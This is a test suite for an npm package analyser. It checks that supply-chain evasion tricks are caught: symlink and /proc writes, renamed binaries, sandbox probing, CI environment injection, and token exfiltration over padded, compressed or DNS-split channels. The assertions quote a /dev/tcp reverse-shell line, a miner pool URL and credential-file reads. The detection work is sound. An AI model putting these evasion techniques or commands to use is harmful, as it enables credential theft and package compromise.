/**
 * Evasions a careful author would try, one per class (docs/evasion.md): each
 * fails, with evidence naming what really happened (the file the kernel wrote,
 * the program actually run, the file probed, the token however it was
 * wrapped). Before this suite's changes each got `pass` or `warn`, or failed
 * for a wrong reason.
 */
import test from 'ava';
import type { AnalysisReport } from '../../src/report/index.js';
import { AnalysisPool, type Analysis } from '../helpers/analysis-pool.js';
import { fixturePackage, repoRoot } from '../helpers/run-cli.js';

const ACCEPT_NETWORK = `${repoRoot}/test/fixtures/policies/accept-fixture-network.yaml`;
const pool = new AnalysisPool(2);
test.after.always(() => pool.dispose());

const FIXTURES: Record<string, readonly string[]> = {
  'evasion-symlink-write': [],
  'evasion-hardlink-write': [],
  'evasion-proc-self-write': [],
  'evasion-fd-chmod': [],
  'evasion-fake-node-gyp': [],
  'evasion-renamed-make': [],
  'evasion-renamed-ps': [],
  'evasion-probe-silent': [],
  'evasion-tracer-check': [],
  'evasion-github-env': [],
  'evasion-argv-padding': [],
  'evasion-shell-script-c': [],
  // A user who accepted these packages' network use: the token leaving still fails them.
  'evasion-padded-exfil': ['--policy', ACCEPT_NETWORK],
  'evasion-compressed-exfil': ['--policy', ACCEPT_NETWORK],
  'evasion-dns-split-exfil': ['--policy', ACCEPT_NETWORK],
  'evasion-trace-flood': ['--timeout', '120'],
  'evasion-platform-darwin': [],
  'evasion-staged-token': [],
  'evasion-handoff-token': [],
  'evasion-ci-quiet': [],
};
// Started at once, two at a time; each test awaits its own.
const runs = new Map(Object.entries(FIXTURES).map(([name, args]) => [name, pool.analyze(fixturePackage(name), args)]));

async function report(name: string): Promise<AnalysisReport> {
  const { report: parsed, result } = (await runs.get(name)) as Analysis;
  if (parsed === null) throw new Error(`no JSON report for ${name} (exit ${result.exitCode}):\n${result.stderr}`);
  return parsed;
}

function evidence(parsed: AnalysisReport, rule: string): string {
  return parsed.findings.filter((finding) => finding.rule === rule).flatMap((finding) => [finding.summary, ...finding.evidence]).join('\n');
}

test('a write through a symlink into the home is a write to the file it reached', async (t) => {
  const parsed = await report('evasion-symlink-write');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'persistence-write'), /open \/home\/runner\/\.gitconfig \(named as \/home\/runner\/work\/app\/node_modules\/[^ ]+\/home-link\/\.gitconfig\)/);
  t.regex(evidence(parsed, 'link-outside-package'), /symlink .*home-link -> \/home\/runner \(write\)/);
});

test('a hard link to a file outside is that file, and making it is a finding', async (t) => {
  const parsed = await report('evasion-hardlink-write');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'write-outside-package'), /open \/home\/runner\/\.gitconfig \(named as .*settings\.ini\)/);
  t.regex(evidence(parsed, 'link-outside-package'), /settings\.ini -> \/home\/runner\/\.gitconfig/);
});

test('writes through /proc/self/fd/N and /proc/self/cwd are writes to the files they name', async (t) => {
  const parsed = await report('evasion-proc-self-write');
  t.is(parsed.verdict, 'fail');
  const lines = evidence(parsed, 'persistence-write');
  t.regex(lines, /open \/home\/runner\/\.gitconfig \(named as \/proc\/self\/fd\/\d+\/\.gitconfig\)/);
  t.regex(lines, /open \/home\/runner\/\.gitconfig \(named as \/proc\/self\/cwd\/\.gitconfig\)/);
});

test('a chmod through a descriptor names the file the descriptor was opened on', async (t) => {
  const parsed = await report('evasion-fd-chmod');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'persistence-write'), /chmod \/home\/runner\/\.gitconfig \(write\)/);
});

test('a script named node-gyp.js earns none of node-gyp\'s exemptions', async (t) => {
  const parsed = await report('evasion-fake-node-gyp');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'write-outside-package'), /open \/tmp\/ccStage2\.s \(write\)/);
});

test('a copy of python named make earns none of make\'s exemptions', async (t) => {
  const parsed = await report('evasion-renamed-make');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'privilege-escalation'), /setresuid\(0, 0, 0\)/);
});

test('a copy of python named ps reading the process environment is reading credentials', async (t) => {
  const parsed = await report('evasion-renamed-ps');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'credential-read'), /open \/proc\/self\/environ \(read\)/);
});

test('probing for a container with stat, lstat and readlink and then staying quiet fails', async (t) => {
  const parsed = await report('evasion-probe-silent');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'sandbox-probe-quiet'), /\/\.dockerenv \(metadata\)/);
});

test('reading TracerPid and staying quiet fails, naming the file probed', async (t) => {
  const parsed = await report('evasion-tracer-check');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'sandbox-probe-quiet'), /open \/proc\/self\/status \(read\)/);
});

test('injecting NODE_OPTIONS and a PATH entry into the CI job\'s later steps is critical', async (t) => {
  const parsed = await report('evasion-github-env');
  t.is(parsed.verdict, 'fail');
  const lines = evidence(parsed, 'ci-file-command-write');
  t.regex(lines, /\/home\/runner\/work\/_temp\/_runner_file_commands\/set_env_[0-9a-f-]{36} \(write\)/);
  t.regex(lines, /\/home\/runner\/work\/_temp\/_runner_file_commands\/add_path_[0-9a-f-]{36} \(write\)/);
});

test('padding a command line does not push a miner URL or /dev/tcp out of the trace', async (t) => {
  const parsed = await report('evasion-argv-padding');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'reverse-shell'), /\[2000 × " "\]true \|\| exec 3<>\/dev\/tcp\/203\.0\.113\.66\/4444/);
  t.regex(evidence(parsed, 'cryptominer-spawn'), /--url=stratum\+tcp:\/\/pool\.dynaudit-test\.example:3333/);
});

test('a -c after a script\'s name does not make the shell a command-string shell', async (t) => {
  const parsed = await report('evasion-shell-script-c');
  t.regex(evidence(parsed, 'shell-spawn'), /exec \/usr\/bin\/bash: bash stage\.sh -c x/);
});

test('a token after megabytes of padding is found, even where the network was accepted', async (t) => {
  const parsed = await report('evasion-padded-exfil');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'exfiltration'), /\[npm-token-env\] as is in the HTTP POST body to upload\.dynaudit-test\.example/);
});

test('gzip-, deflate- and brotli-compressed bodies are unpacked and searched', async (t) => {
  const parsed = await report('evasion-compressed-exfil');
  t.is(parsed.verdict, 'fail');
  const leaks = new Set((parsed.observed.exfiltration ?? []).map((leak) => `${leak.token} ${leak.encoding}`));
  for (const token of ['npm-token-env', 'github-token', 'aws-secret-access-key']) {
    for (const encoding of ['gzip', 'deflate', 'brotli']) t.true(leaks.has(`${token} ${encoding}`), `${token} ${encoding}`);
  }
});

test('a token split over DNS queries to one domain is joined back', async (t) => {
  const parsed = await report('evasion-dns-split-exfil');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'exfiltration'), /\[npm-token-env\] hex-encoded in the DNS query names of \d+ queries joined to DNS lookups under dynaudit-test\.example \(the whole token\)/);
});

test('flooding the trace past its cap is itself a failing finding', async (t) => {
  const parsed = await report('evasion-trace-flood');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'trace-gap'), /the trace reached its size cap \(256 MiB\)/);
});

test('a package built for macOS only is installed and run anyway, and the report says so', async (t) => {
  const parsed = await report('evasion-platform-darwin');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'credential-read'), /open \/home\/runner\/\.ssh\/id_rsa \(read\)/);
  t.regex(evidence(parsed, 'platform-override'), /dynaudit-fixture-evasion-platform-darwin is built for darwin\/arm64/);
});

test('a token read from ~/.npmrc and staged in a file of the package\'s own is critical, though nothing left yet', async (t) => {
  const parsed = await report('evasion-staged-token');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'credential-staged'), /\.build-cache\.json/);
});

test('a token read from ~/.npmrc and handed to another program on its command line is critical', async (t) => {
  const parsed = await report('evasion-handoff-token');
  t.is(parsed.verdict, 'fail');
  t.regex(evidence(parsed, 'credential-handoff'), /uploader --token=/);
});

test('a package quiet in CI acts in the loading that looks like a developer\'s machine, and its leak is caught there', async (t) => {
  const parsed = await report('evasion-ci-quiet');
  t.is(parsed.verdict, 'fail');
  const sent = (parsed.observed.http ?? []).filter((request) => request.host === 'laptop-sync.dynaudit-test.example');
  t.is(sent.length, 1, 'once: every other loading, today, a week ahead and in the execute phase, looks like CI');
  t.like(sent[0], { phase: 'import', path: '/rc' });
  t.regex(evidence(parsed, 'exfiltration'), /npm token in ~\/\.npmrc/i);
});
